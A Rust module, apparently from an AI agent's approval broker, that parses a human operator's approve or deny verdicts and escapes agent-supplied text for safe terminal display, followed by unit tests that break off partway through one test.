//! The approval broker's pure half, shared by toolsrv (which holds the broker) and olliesrv
//! (which aggregates every session's `bypass/` for the operator): the verdict a human writes to
//! `bypass/resolve`, the escaping of what a human reads from `bypass/pending`, and request ids.
//! No I/O here; DESIGN.md §5 has the flow.
//!
//! - [`parse_resolve`] reads a verdict, strictly (see its documentation for the exact grammar).
//!   It never panics, whatever the bytes, and every error is one lowercase line that says what
//!   was wrong and what is allowed. Ids are not looked up here: an unknown, expired or used id
//!   is the broker's error.
//! - [`display_escape`] / [`display_escape_json`] make a request safe to `cat` on a terminal:
//!   nothing the agent chose (argv, reason, paths) can move the cursor, clear the screen,
//!   reorder the text with bidi controls or hide characters.
//! - [`new_request_id`]: 128 random bits from the kernel as 32 lowercase hex digits.
//!
//! Tested by the unit tests below (every acceptance and rejection, every escaped class, an
//! exhaustive check of the escaped set over all of Unicode and a randomised property test) and
//! by the `resolve` cargo-fuzz target (`fuzz/fuzz_targets/resolve.rs`).

use serde::Deserialize;
use serde::de::{self, MapAccess, Visitor};
use serde_json::Value;
use std::fmt;

mod table;
pub use table::UNICODE_VERSION;

/// Largest verdict accepted, in bytes (whitespace included).
pub const MAX_RESOLVE: usize = 4096;
/// Length of a request id: 32 lowercase hex digits (128 bits).
pub const ID_LEN: usize = 32;
/// Longest denial message, in characters (Unicode scalar values).
pub const MAX_ERROR_CHARS: usize = 1000;
/// The keys a verdict may have.
pub const RESOLVE_KEYS: [&str; 4] = ["id", "approved", "error", "scope"];

/// A verdict written to `bypass/resolve`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Resolve {
    /// The request it answers: 32 lowercase hex digits (checked; not looked up).
    pub id: String,
    /// What the operator decided.
    pub verdict: Verdict,
}

/// The operator's decision on one request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// `"approved": true`, run it. With `"scope": "session"` the approval is also remembered
    /// for byte-identical requests in the same session.
    Approve { session_scope: bool },
    /// `"error": "…"`: refused; the message goes back to the agent as the tool's error. It is
    /// 1..=1000 characters, none of them a control character (C0, DEL, C1) or a line or
    /// paragraph separator (U+2028, U+2029).
    Deny { message: String },
}

/// Why a verdict was refused. Every message is one lowercase line that names the problem and
/// what is allowed; text from the input is shown through [`display_escape`] and clipped.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ResolveError {
    #[error(
        "resolve: a verdict must come whole in one write at offset 0 (this write is at offset {offset})"
    )]
    NotAtStart { offset: u64 },
    #[error(
        "resolve: the object is not complete (a verdict must come whole in one write at offset 0)"
    )]
    Incomplete,
    #[error("resolve: at most {MAX_RESOLVE} bytes (got {len})")]
    TooLong { len: usize },
    #[error("resolve: nul byte at offset {offset} (not allowed anywhere)")]
    NulByte { offset: usize },
    #[error("resolve: not valid UTF-8 (at byte {offset})")]
    NotUtf8 { offset: usize },
    #[error(
        "resolve: empty (give one JSON object: {{\"id\":\"…\",\"approved\":true}} or {{\"id\":\"…\",\"error\":\"why\"}})"
    )]
    Empty,
    #[error("resolve: expected one JSON object, got {got}")]
    NotObject { got: &'static str },
    #[error("resolve: comments are not allowed (strict JSON only)")]
    Comment,
    #[error("resolve: invalid JSON: {detail}")]
    Syntax { detail: String },
    #[error("resolve: more than one JSON value (give exactly one object)")]
    MoreThanOne,
    #[error("resolve: unexpected text after the object (only whitespace may follow it)")]
    Trailing,
    #[error("resolve: nul character (\\u0000) in a string (not allowed anywhere)")]
    NulEscape,
    #[error("resolve: unknown key \"{key}\" (valid: id, approved, error, scope)")]
    UnknownKey { key: String },
    #[error("resolve: duplicate key \"{key}\"")]
    DuplicateKey { key: &'static str },
    #[error("resolve: missing \"id\" (the 32 lowercase hex digits of the request)")]
    MissingId,
    #[error("resolve: \"id\" must be a string of 32 lowercase hex digits ({detail})")]
    BadId { detail: String },
    #[error("resolve: give \"approved\": true or \"error\": \"why\"")]
    NoVerdict,
    #[error("resolve: give only one of \"approved\": true or \"error\": \"why\", not both")]
    BothVerdicts,
    #[error("resolve: \"approved\" must be true, not {got} (to deny, give \"error\": \"why\")")]
    ApprovedNotTrue { got: String },
    #[error("resolve: \"error\" must be a string of 1 to {MAX_ERROR_CHARS} characters, not {got}")]
    ErrorNotString { got: String },
    #[error("resolve: \"error\" is empty (say why the request is denied)")]
    ErrorEmpty,
    #[error("resolve: \"error\" has {chars} characters; at most {MAX_ERROR_CHARS}")]
    ErrorTooLong { chars: usize },
    #[error(
        "resolve: \"error\" contains control character U+{code:04X} (one line of printable text)"
    )]
    ErrorControl { code: u32 },
    #[error("resolve: \"scope\" may only be \"session\", not {got}")]
    BadScope { got: String },
    #[error("resolve: \"scope\" only goes with \"approved\": true (a denial has no scope)")]
    ScopeWithError,
}

/// Parses a verdict written to `bypass/resolve`. The grammar, exactly:
///
/// - at most [`MAX_RESOLVE`] bytes, valid UTF-8, no NUL byte anywhere (nor `\u0000` in any
///   string, key or value);
/// - exactly one JSON object (RFC 8259: no comments, no trailing commas), optionally surrounded
///   by JSON whitespace (space, tab, CR, LF — so `echo`'s trailing newline is fine); anything
///   else before or after it is an error (a second value, an array, garbage);
/// - keys only `id`, `approved`, `error`, `scope`, each at most once (duplicates are refused,
///   not resolved last-wins as serde would);
/// - `id`: required, a string of exactly 32 lowercase hex digits (no padding, no other case);
/// - exactly one of `"approved": true` (the JSON boolean; `false`, strings and numbers are
///   refused: a denial is `error`) or `"error": "<message>"` (a string of 1..=1000 characters
///   with no control character: see [`Verdict::Deny`]);
/// - `scope`: optional, only the string `"session"`, and only with `"approved": true`.
///
/// Problems are reported in that order (size, bytes, syntax, keys in document order, `id`,
/// verdict, scope), the first one found.
pub fn parse_resolve(bytes: &[u8]) -> Result<Resolve, ResolveError> {
    if bytes.len() > MAX_RESOLVE {
        return Err(ResolveError::TooLong { len: bytes.len() });
    }
    if let Some(offset) = bytes.iter().position(|&b| b == 0) {
        return Err(ResolveError::NulByte { offset });
    }
    let text = std::str::from_utf8(bytes).map_err(|e| ResolveError::NotUtf8 {
        offset: e.valid_up_to(),
    })?;
    let body = text.trim_matches(is_json_ws);
    match body.as_bytes().first() {
        None => return Err(ResolveError::Empty),
        Some(b'{') => {}
        Some(_) if starts_comment(body) => return Err(ResolveError::Comment),
        Some(&b) => {
            return Err(ResolveError::NotObject {
                got: kind_of_start(b),
            });
        }
    }

    // serde_json reads the object (strings, escapes, surrogates, numbers, nesting limit);
    // `Entries` keeps every key in order, duplicates included, for the checks below.
    let mut stream = serde_json::Deserializer::from_str(text).into_iter::<Entries>();
    let entries = match stream.next() {
        Some(Ok(e)) => e.0,
        Some(Err(e)) => return Err(syntax_error(text, &e)),
        None => return Err(ResolveError::Empty),
    };
    let rest = text
        .get(stream.byte_offset()..)
        .unwrap_or_default()
        .trim_start_matches(is_json_ws);
    if let Some(&b) = rest.as_bytes().first() {
        return Err(match b {
            _ if starts_comment(rest) => ResolveError::Comment,
            b'{' | b'[' | b'"' | b'-' | b'0'..=b'9' | b't' | b'f' | b'n' => {
                ResolveError::MoreThanOne
            }
            _ => ResolveError::Trailing,
        });
    }

    if entries.iter().any(|(k, v)| k.contains('\0') || has_nul(v)) {
        return Err(ResolveError::NulEscape);
    }
    let (mut id, mut approved, mut error, mut scope) = (None, None, None, None);
    for (key, value) in entries {
        let (name, slot) = match key.as_str() {
            "id" => ("id", &mut id),
            "approved" => ("approved", &mut approved),
            "error" => ("error", &mut error),
            "scope" => ("scope", &mut scope),
            _ => return Err(ResolveError::UnknownKey { key: clip(&key) }),
        };
        if slot.is_some() {
            return Err(ResolveError::DuplicateKey { key: name });
        }
        *slot = Some(value);
    }

    let id = match id {
        None => return Err(ResolveError::MissingId),
        Some(Value::String(s)) => {
            check_id(&s)?;
            s
        }
        Some(other) => {
            return Err(ResolveError::BadId {
                detail: format!("got {}", describe(&other)),
            });
        }
    };
    let verdict = match (approved, error) {
        (Some(_), Some(_)) => return Err(ResolveError::BothVerdicts),
        (None, None) => return Err(ResolveError::NoVerdict),
        (Some(Value::Bool(true)), None) => Verdict::Approve {
            session_scope: match scope {
                None => false,
                Some(Value::String(s)) if s == "session" => true,
                Some(other) => {
                    return Err(ResolveError::BadScope {
                        got: describe(&other),
                    });
                }
            },
        },
        (Some(other), None) => {
            return Err(ResolveError::ApprovedNotTrue {
                got: describe(&other),
            });
        }
        (None, Some(value)) => {
            if scope.is_some() {
                return Err(ResolveError::ScopeWithError);
            }
            Verdict::Deny {
                message: check_message(value)?,
            }
        }
    };
    Ok(Resolve { id, verdict })
}

/// Whether `s` is a well-formed request id: exactly 32 lowercase hex digits.
pub fn is_request_id(s: &str) -> bool {
    s.len() == ID_LEN && s.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'))
}

/// A fresh request id: 16 bytes from the kernel's CSPRNG as 32 lowercase hex digits.
pub fn new_request_id() -> Result<String, getrandom::Error> {
    let mut b = [0u8; ID_LEN / 2];
    getrandom::fill(&mut b)?;
    Ok(hex(&b))
}

fn hex(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 16] = b"0123456789abcdef";
    let mut s = String::with_capacity(bytes.len() * 2);
    for &b in bytes {
        s.push(char::from(DIGITS[usize::from(b >> 4)]));
        s.push(char::from(DIGITS[usize::from(b & 0xf)]));
    }
    s
}

/// Whether [`display_escape`] replaces `c` by `\u{…}` (the backslash, escaped as `\\`, is not
/// in this set). Every code point that prints nothing, moves the cursor, reorders or hides
/// text, or looks blank; exactly:
///
/// | class | code points |
/// |---|---|
/// | control characters (Cc): C0 (tab, newline and carriage return included), DEL, C1 | U+0000–U+001F, U+007F–U+009F |
/// | format characters (Cf): soft hyphen, Arabic letter mark, zero width space / joiners, left-to-right and right-to-left marks, bidi embeddings, overrides and isolates, word joiner, invisible operators, BOM, interlinear annotations, tags, prepended number signs… | e.g. U+00AD, U+061C, U+200B–U+200F, U+202A–U+202E, U+2060–U+2064, U+2066–U+206F, U+FEFF, U+FFF9–U+FFFB, U+E0001, U+E0020–U+E007F |
/// | line and paragraph separators (Zl, Zp) | U+2028, U+2029 |
/// | space separators (Zs) except U+0020 SPACE: no-break, en/em/thin/hair spaces, ideographic space… | U+00A0, U+1680, U+2000–U+200A, U+202F, U+205F, U+3000 |
/// | private use (Co) | U+E000–U+F8FF, U+F0000–U+FFFFD, U+100000–U+10FFFD |
/// | unassigned (Cn) in Unicode [`UNICODE_VERSION`], noncharacters included | e.g. U+0378, U+FDD0–U+FDEF, every U+xFFFE and U+xFFFF |
/// | Default_Ignorable_Code_Point: combining grapheme joiner, Hangul fillers, Khmer inherent vowels, Mongolian free variation selectors and vowel separator, variation selectors, shorthand format controls, musical formatting, the rest of plane 14 | U+034F, U+115F, U+1160, U+17B4, U+17B5, U+180B–U+180F, U+3164, U+FE00–U+FE0F, U+FFA0, U+FFF0–U+FFF8, U+1BCA0–U+1BCA3, U+1D173–U+1D17A, U+E0000–U+E0FFF |
/// | blank-looking symbols: braille pattern blank, musical null notehead, object replacement character | U+2800, U+1D159, U+FFFC |
///
/// The exact ranges are generated by `scripts/gen-display-escape.py` from Python's
/// `unicodedata` into `link/src/bypass/table.rs` (sorted, disjoint; checked by the tests below).
/// Everything else is shown as it is, including letters of every script, combining marks and
/// emoji (whose variation selectors and tags do get escaped, so an emoji may show as its base
/// character followed by `\u{FE0F}`). A code point assigned after [`UNICODE_VERSION`] is
/// escaped: a terminal that knows it will show `\u{…}` instead, never something invisible.
pub fn needs_display_escape(c: char) -> bool {
    let c = u32::from(c);
    table::ESCAPED
        .binary_search_by(|&(lo, hi)| {
            if hi < c {
                std::cmp::Ordering::Less
            } else if lo > c {
                std::cmp::Ordering::Greater
            } else {
                std::cmp::Ordering::Equal
            }
        })
        .is_ok()
}

/// Makes `s` safe to show on a terminal: every character of [`needs_display_escape`]'s set
/// becomes `\u{X}` (its code point in uppercase hex, no leading zeros: ESC is `\u{1B}`, RLO is
/// `\u{202E}`), a backslash becomes `\\`, and everything else is kept.
///
/// The escaping is unambiguous (a backslash in the output always starts `\\` or `\u{`), so two
/// different strings never display alike. The output contains no character of the escaped set,
/// only characters that are kept as they are plus `\`, `u`, `{`, `}` and hex digits; escaping
/// it again therefore changes nothing but the backslashes:
/// `display_escape(&display_escape(s)) == display_escape(s).replace('\\', "\\\\")`.
pub fn display_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        if c == '\\' {
            out.push_str("\\\\");
        } else if needs_display_escape(c) {
            out.push_str(&format!("\\u{{{:X}}}", u32::from(c)));
        } else {
            out.push(c);
        }
    }
    out
}

/// [`display_escape`] applied to every string in `v`, object keys included, at any depth.
/// Numbers, booleans and null are unchanged. Since the escaping is injective, distinct keys
/// stay distinct.
pub fn display_escape_json(v: &Value) -> Value {
    match v {
        Value::String(s) => Value::String(display_escape(s)),
        Value::Array(a) => Value::Array(a.iter().map(display_escape_json).collect()),
        Value::Object(m) => Value::Object(
            m.iter()
                .map(|(k, v)| (display_escape(k), display_escape_json(v)))
                .collect(),
        ),
        other => other.clone(),
    }
}

/// Longest string a bounded display ([`display_bounded`]) shows whole, in characters after
/// escaping.
pub const MAX_SHOWN_CHARS: usize = 1024;
/// Most elements of an array, or entries of an object, a bounded display
/// ([`display_bounded_json`]) shows.
pub const MAX_SHOWN_ITEMS: usize = 64;

/// The marker a bounded display puts where it left `n` characters (Unicode scalar values of
/// the original string), elements or keys out. It starts with a backslash followed by `[`,
/// which [`display_escape`] never writes (its backslashes always start `\\` or `\u{`), so a
/// string cannot pass itself off as a marker once escaped.
fn hidden_marker(n: usize, what: &str) -> String {
    format!("\\[… {n} {what} hidden …]")
}

/// [`display_escape`] of `s`, bounded: when the escaped text is longer than
/// [`MAX_SHOWN_CHARS`] characters, its head and its tail (at most `MAX_SHOWN_CHARS / 2`
/// characters each, never cutting an escape in two) with `\[… N characters hidden …]` between
/// them, N being how many characters of `s` (before escaping) are not shown. At most
/// `MAX_SHOWN_CHARS` characters plus the marker.
pub fn display_bounded(s: &str) -> String {
    let escaped = display_escape(s);
    if escaped.chars().count() <= MAX_SHOWN_CHARS {
        return escaped;
    }
    let half = MAX_SHOWN_CHARS / 2;
    // Each character of `s` and what it displays as.
    let shown = |c: char| -> String {
        if c == '\\' {
            "\\\\".to_owned()
        } else if needs_display_escape(c) {
            format!("\\u{{{:X}}}", u32::from(c))
        } else {
            c.to_string()
        }
    };
    let chars: Vec<char> = s.chars().collect();
    let (mut head, mut head_len, mut used) = (String::new(), 0, 0);
    for &c in &chars {
        let d = shown(c);
        let n = d.chars().count();
        if head_len + n > half {
            break;
        }
        head.push_str(&d);
        head_len += n;
        used += 1;
    }
    let (mut tail, mut tail_len, mut from_end) = (Vec::new(), 0, 0);
    for &c in chars[used..].iter().rev() {
        let d = shown(c);
        let n = d.chars().count();
        if tail_len + n > half {
            break;
        }
        tail_len += n;
        tail.push(d);
        from_end += 1;
    }
    let hidden = chars.len() - used - from_end;
    tail.reverse();
    format!(
        "{head}{}{}",
        hidden_marker(hidden, "characters"),
        tail.concat()
    )
}

/// Whether `shown`, a string of a bounded display, has a part left out: it holds a marker of
/// [`display_bounded`] or [`display_bounded_json`] (a backslash that is not itself escaped,
/// followed by `[`), which no escaped string holds.
pub fn has_hidden_marker(shown: &str) -> bool {
    let mut it = shown.chars();
    while let Some(c) = it.next() {
        if c == '\\' {
            match it.next() {
                Some('[') => return true,
                Some(_) => {}
                None => return false,
            }
        }
    }
    false
}

/// [`display_escape_json`] with every string and key bounded by [`display_bounded`], and
/// every array and object by [`MAX_SHOWN_ITEMS`]: a longer array shows its first 48 and last
/// 15 elements with a `\[… N items hidden …]` string between them; a longer object its first
/// 63 entries (in key order) and a `\[… N keys hidden …]` key (value null). Two keys that
/// display alike once bounded stay apart: the later one gets a `\[#2]` (`\[#3]`…) suffix.
pub fn display_bounded_json(v: &Value) -> Value {
    match v {
        Value::String(s) => Value::String(display_bounded(s)),
        Value::Array(a) if a.len() > MAX_SHOWN_ITEMS => {
            let (head, tail) = (48, MAX_SHOWN_ITEMS - 48 - 1);
            let mut out: Vec<Value> = a[..head].iter().map(display_bounded_json).collect();
            out.push(Value::String(hidden_marker(a.len() - head - tail, "items")));
            out.extend(a[a.len() - tail..].iter().map(display_bounded_json));
            Value::Array(out)
        }
        Value::Array(a) => Value::Array(a.iter().map(display_bounded_json).collect()),
        Value::Object(m) => {
            let mut out = serde_json::Map::new();
            let keep = if m.len() > MAX_SHOWN_ITEMS {
                MAX_SHOWN_ITEMS - 1
            } else {
                m.len()
            };
            for (k, v) in m.iter().take(keep) {
                let shown = display_bounded(k);
                let mut key = shown.clone();
                let mut n = 1;
                while out.contains_key(&key) {
                    n += 1;
                    key = format!("{shown}\\[#{n}]");
                }
                out.insert(key, display_bounded_json(v));
            }
            if m.len() > keep {
                out.insert(hidden_marker(m.len() - keep, "keys"), Value::Null);
            }
            Value::Object(out)
        }
        other => other.clone(),
    }
}

/// Undoes [`display_escape`]: `display_unescape(&display_escape(s)) == Some(s)` for every
/// `s`, and `None` for text `display_escape` cannot have written (a lone backslash, an escape
/// of a character it keeps, leading zeros, lowercase hex). With it a full display can be
/// checked against a request's SHA-256.
pub fn display_unescape(s: &str) -> Option<String> {
    let mut out = String::with_capacity(s.len());
    let mut it = s.chars();
    while let Some(c) = it.next() {
        if c != '\\' {
            if needs_display_escape(c) {
                return None;
            }
            out.push(c);
            continue;
        }
        match it.next()? {
            '\\' => out.push('\\'),
            'u' => {
                if it.next()? != '{' {
                    return None;
                }
                let mut hex = String::new();
                loop {
                    match it.next()? {
                        '}' => break,
                        h if hex.len() < 6 => hex.push(h),
                        _ => return None,
                    }
                }
                let c = char::from_u32(u32::from_str_radix(&hex, 16).ok()?)?;
                if !needs_display_escape(c) || format!("{:X}", u32::from(c)) != hex {
                    return None;
                }
                out.push(c);
            }
            _ => return None,
        }
    }
    Some(out)
}

/// Lowercase hex SHA-256 of `bytes`.
pub fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::{Digest, Sha256};
    hex(&Sha256::digest(bytes))
}

/// [`parse_resolve`] of one Twrite at `offset`. A verdict must come whole, in one write at
/// offset 0: a write at another offset is refused before its bytes are read (it can only be
/// the rest of a verdict split across writes), and a write at offset 0 that ends inside the
/// object is refused as incomplete, so no piece of a split verdict is ever taken for a verdict.
pub fn parse_resolve_at(offset: u64, bytes: &[u8]) -> Result<Resolve, ResolveError> {
    if offset != 0 {
        return Err(ResolveError::NotAtStart { offset });
    }
    parse_resolve(bytes)
}

/// Every key and value of an object, in document order, duplicates kept.
struct Entries(Vec<(String, Value)>);

impl<'de> Deserialize<'de> for Entries {
    fn deserialize<D: de::Deserializer<'de>>(d: D) -> Result<Entries, D::Error> {
        d.deserialize_map(EntriesVisitor)
    }
}

struct EntriesVisitor;

impl<'de> Visitor<'de> for EntriesVisitor {
    type Value = Entries;

    fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("a JSON object")
    }

    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Entries, A::Error> {
        let mut v = Vec::new();
        while let Some(k) = map.next_key::<String>()? {
            let value = map.next_value::<Value>()?;
            v.push((k, value));
        }
        Ok(Entries(v))
    }
}

fn is_json_ws(c: char) -> bool {
    matches!(c, ' ' | '\t' | '\n' | '\r')
}

fn kind_of_start(b: u8) -> &'static str {
    match b {
        b'[' => "an array",
        b'"' => "a string",
        b'-' | b'0'..=b'9' => "a number",
        b't' | b'f' => "a boolean",
        b'n' => "null",
        _ => "text that is not JSON",
    }
}

/// One line from a serde_json error, with the position where it was found.
fn syntax_error(text: &str, e: &serde_json::Error) -> ResolveError {
    if matches!(e.classify(), serde_json::error::Category::Eof) {
        return ResolveError::Incomplete;
    }
    if from_position(text, e.line(), e.column()).is_some_and(starts_comment) {
        return ResolveError::Comment;
    }
    let msg = e.to_string();
    let suffix = format!(" at line {} column {}", e.line(), e.column());
    let msg = msg.strip_suffix(&suffix).unwrap_or(&msg);
    ResolveError::Syntax {
        detail: format!(
            "{} (line {}, column {})",
            msg.replace(['\n', '\r'], " "),
            e.line(),
            e.column()
        ),
    }
}

/// The text from serde_json's 1-based `line` and `column` (the column of the last byte read)
/// to the end of that line.
fn from_position(text: &str, line: usize, column: usize) -> Option<&str> {
    let l = text.split('\n').nth(line.checked_sub(1)?)?;
    l.get(column.checked_sub(1)?..)
}

fn starts_comment(s: &str) -> bool {
    s.starts_with("//") || s.starts_with("/*")
}

fn has_nul(v: &Value) -> bool {
    let mut stack = vec![v];
    while let Some(v) = stack.pop() {
        match v {
            Value::String(s) if s.contains('\0') => return true,
            Value::Array(a) => stack.extend(a),
            Value::Object(m) => {
                for (k, v) in m {
                    if k.contains('\0') {
                        return true;
                    }
                    stack.push(v);
                }
            }
            _ => {}
        }
    }
    false
}

/// What a value is, for messages: `false`, `a number`, `"global"` (escaped and clipped)…
fn describe(v: &Value) -> String {
    match v {
        Value::Null => "null".into(),
        Value::Bool(b) => b.to_string(),
        Value::Number(_) => "a number".into(),
        Value::String(s) => format!("the string \"{}\"", clip(s)),
        Value::Array(_) => "an array".into(),
        Value::Object(_) => "an object".into(),
    }
}

/// Input text for a message: escaped for display, at most 40 characters.
fn clip(s: &str) -> String {
    crate::text::clip(&display_escape(s), 40)
}

fn check_id(s: &str) -> Result<(), ResolveError> {
    if is_request_id(s) {
        return Ok(());
    }
    let detail = if let Some(c) = s.chars().find(|c| !c.is_ascii_hexdigit()) {
        format!("got the character \"{}\"", clip(&c.to_string()))
    } else if s.chars().any(|c| c.is_ascii_uppercase()) {
        "got uppercase hex digits".to_owned()
    } else {
        format!("got {} digits", s.len())
    };
    Err(ResolveError::BadId { detail })
}

fn check_message(v: Value) -> Result<String, ResolveError> {
    let Value::String(s) = v else {
        return Err(ResolveError::ErrorNotString { got: describe(&v) });
    };
    let chars = s.chars().count();
    if chars == 0 {
        return Err(ResolveError::ErrorEmpty);
    }
    if chars > MAX_ERROR_CHARS {
        return Err(ResolveError::ErrorTooLong { chars });
    }
    if let Some(c) = s
        .chars()
        .find(|&c| c.is_control() || c == '\u{2028}' || c == '\u{2029}')
    {
        return Err(ResolveError::ErrorControl { code: u32::from(c) });
    }
    Ok(s)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const ID: &str = "0123456789abcdef0123456789abcdef";

    fn ok(s: &str) -> Resolve {
        match parse_resolve(s.as_bytes()) {
            Ok(r) => r,
            Err(e) => panic!("{s:?} refused: {e}"),
        }
    }

    fn err(input: impl AsRef<[u8]>) -> ResolveError {
        let input = input.as_ref();
        match parse_resolve(input) {
            Ok(r) => panic!("{:?} accepted: {r:?}", String::from_utf8_lossy(input)),
            Err(e) => {
                let m = e.to_string();
                assert!(m.starts_with("resolve: "), "{m}");
                assert!(!m.contains('\n') && !m.contains('\r'), "{m:?}");
                e
            }
        }
    }

    fn approve(scope: bool) -> Resolve {
        Resolve {
            id: ID.into(),
            verdict: Verdict::Approve {
                session_scope: scope,
            },
        }
    }

    #[test]
    fn accepts_approve() {
        assert_eq!(
            ok(&format!(r#"{{"id":"{ID}","approved":true}}"#)),
            approve(false)
        );
        // Key order is free.
        assert_eq!(
            ok(&format!(r#"{{"approved":true,"id":"{ID}"}}"#)),
            approve(false)
        );
    }

    #[test]
    fn accepts_approve_with_session_scope() {
        let s = format!(r#"{{"id":"{ID}","approved":true,"scope":"session"}}"#);
        assert_eq!(ok(&s), approve(true));
        let s = format!(r#"{{"scope":"session","approved":true,"id":"{ID}"}}"#);
        assert_eq!(ok(&s), approve(true));
    }

    #[test]
    fn accepts_deny() {
        let r = ok(&format!(r#"{{"id":"{ID}","error":"not on a friday"}}"#));
        assert_eq!(
            r,
            Resolve {
                id: ID.into(),
                verdict: Verdict::Deny {
                    message: "not on a friday".into()
                }
            }
        );
        // Escapes are decoded; non-ASCII and emoji are fine; 1000 characters is the limit.
        let r = ok(&format!(r#"{{"id":"{ID}","error":"caf\u00e9 \"no\" 🚫"}}"#));
        assert_eq!(
            r.verdict,
            Verdict::Deny {
                message: "café \"no\" 🚫".into()
            }
        );
        let long = "é".repeat(MAX_ERROR_CHARS);
        let r = ok(&format!(r#"{{"id":"{ID}","error":"{long}"}}"#));
        assert_eq!(r.verdict, Verdict::Deny { message: long });
        let r = ok(&format!(r#"{{"id":"{ID}","error":"x"}}"#));
        assert_eq!(
            r.verdict,
            Verdict::Deny {
                message: "x".into()
            }
        );
    }

    #[test]
    fn accepts_surrounding_whitespace_and_trailing_newline() {
        let v = format!(r#"{{"id":"{ID}","approved":true}}"#);
        assert_eq!(ok(&format!("{v}\n")), approve(false));
        assert_eq!(ok(&format!("{v}\r\n")), approve(false));
        assert_eq!(ok(&format!(" \t\n{v} \n")), approve(false));
        let spaced = format!("{{ \"id\" : \"{ID}\" ,\n \"approved\" : true }}\n");
        assert_eq!(ok(&spaced), approve(false));
    }

    #[test]
    fn size_limit_is_4096_bytes() {
        let v = format!(r#"{{"id":"{ID}","approved":true}}"#);
        let pad = |n: usize| format!("{v}{}\n", " ".repeat(n - v.len() - 1));
        assert_eq!(ok(&pad(MAX_RESOLVE)), approve(false));
        let e = err(pad(MAX_RESOLVE + 1));
        assert_eq!(e, ResolveError::TooLong { len: 4097 });
        assert_eq!(e.to_string(), "resolve: at most 4096 bytes (got 4097)");
    }

    #[test]
    fn rejects_empty_and_whitespace_only() {
        assert_eq!(err(""), ResolveError::Empty);
        assert_eq!(err(" \n\t\r\n"), ResolveError::Empty);
        assert_eq!(err("\n"), ResolveError::Empty);
    }

    #[test]
    fn rejects_nul_raw_and_escaped() {
        let v = format!(r#"{{"id":"{ID}","approved":true}}"#);
        assert_eq!(
            err(format!("{v}\0")),
            ResolveError::NulByte { offset: v.len() }
        );
        assert_eq!(err("\0"), ResolveError::NulByte { offset: 0 });
        let e = err(format!(r#"{{"id":"{ID}","error":"a\u0000b"}}"#));
        assert_eq!(e, ResolveError::NulEscape);
        assert_eq!(
            e.to_string(),
            r"resolve: nul character (\u0000) in a string (not allowed anywhere)"
        );
        // In a key, and nested in a value that would be refused anyway.
        assert_eq!(
            err(format!(r#"{{"id":"{ID}","approved":true,"\u0000":1}}"#)),
            ResolveError::NulEscape
        );
        assert_eq!(
            err(format!(r#"{{"id":"{ID}","approved":[{{"x":"\u0000"}}]}}"#)),
            ResolveError::NulEscape
        );
    }

    #[test]
    fn rejects_bad_utf8() {
        let mut b = format!(r#"{{"id":"{ID}","error":"x"#).into_bytes();
        let at = b.len();
        b.extend_from_slice(b"\xff\"}");
        assert_eq!(err(&b), ResolveError::NotUtf8 { offset: at });
        // An overlong encoding and a lone surrogate encoded as UTF-8 bytes.
        assert!(matches!(
            err(b"{\"id\":\"\xc0\xaf\"}"),
            ResolveError::NotUtf8 { .. }
        ));
        assert!(matches!(
            err(b"{\"id\":\"\xed\xa0\x80\"}"),
            ResolveError::NotUtf8 { .. }
        ));
        // A lone surrogate as a JSON escape is a syntax error.
        let e = err(format!(r#"{{"id":"{ID}","error":"\ud800"}}"#));
        assert!(matches!(e, ResolveError::Syntax { .. }), "{e}");
    }

    #[test]
    fn rejects_two_objects() {
        let v = format!(r#"{{"id":"{ID}","approved":true}}"#);
        let e = err(format!("{v}{v}"));
        assert_eq!(e, ResolveError::MoreThanOne);
        assert_eq!(
            e.to_string(),
            "resolve: more than one JSON value (give exactly one object)"
        );
        assert_eq!(err(format!("{v}\n{v}\n")), ResolveError::MoreThanOne);
        assert_eq!(err(format!("{v} 1")), ResolveError::MoreThanOne);
        assert_eq!(err(format!("{v} true")), ResolveError::MoreThanOne);
        assert_eq!(err(format!("{v}[]")), ResolveError::MoreThanOne);
    }

    #[test]
    fn rejects_arrays_and_other_top_level_values() {
        let v = format!(r#"{{"id":"{ID}","approved":true}}"#);
        let e = err(format!("[{v}]"));
        assert_eq!(e, ResolveError::NotObject { got: "an array" });
        assert_eq!(
            e.to_string(),
            "resolve: expected one JSON object, got an array"
        );
        assert_eq!(err("\"x\""), ResolveError::NotObject { got: "a string" });
        assert_eq!(err("12"), ResolveError::NotObject { got: "a number" });
        assert_eq!(err("true"), ResolveError::NotObject { got: "a boolean" });
        assert_eq!(err("null"), ResolveError::NotObject { got: "null" });
        assert_eq!(
            err("id=x approved=true"),
            ResolveError::NotObject {
                got: "text that is not JSON"
            }
        );
        // A byte-order mark is not whitespace.
        assert!(matches!(
            err(format!("\u{FEFF}{v}")),
            ResolveError::NotObject { .. }
        ));
    }

    #[test]
    fn rejects_trailing_garbage() {
        let v = format!(r#"{{"id":"{ID}","approved":true}}"#);
        assert_eq!(err(format!("{v}x")), ResolveError::Trailing);
        assert_eq!(err(format!("{v},")), ResolveError::Trailing);
        assert_eq!(err(format!("{v}}}")), ResolveError::Trailing);
        assert_eq!(err(format!("{v} /")), ResolveError::Trailing);
        // Form feed and vertical tab are not JSON whitespace.
        assert_eq!(err(format!("{v}\x0c")), ResolveError::Trailing);
    }

    #[test]
    fn rejects_comments() {
        let v = format!(r#"{{"id":"{ID}","approved":true}}"#);
        assert_eq!(err(format!("{v} // ok")), ResolveError::Comment);
        assert_eq!(err(format!("/* ok */ {v}")), ResolveError::Comment);
        let e = err(format!("{{\"id\":\"{ID}\", // the id\n\"approved\":true}}"));
        assert_eq!(e, ResolveError::Comment, "{e}");
        let e = err(format!(r#"{{"id":"{ID}" /* x */,"approved":true}}"#));
        assert_eq!(e, ResolveError::Comment, "{e}");
        assert_eq!(
            ResolveError::Comment.to_string(),
            "resolve: comments are not allowed (strict JSON only)"
        );
    }

    #[test]
    fn rejects_bad_syntax() {
        for s in ["{".to_owned(), format!(r#"{{"id":"{ID}","approved":true"#)] {
            assert_eq!(err(&s), ResolveError::Incomplete, "{s:?}");
        }
        for s in [
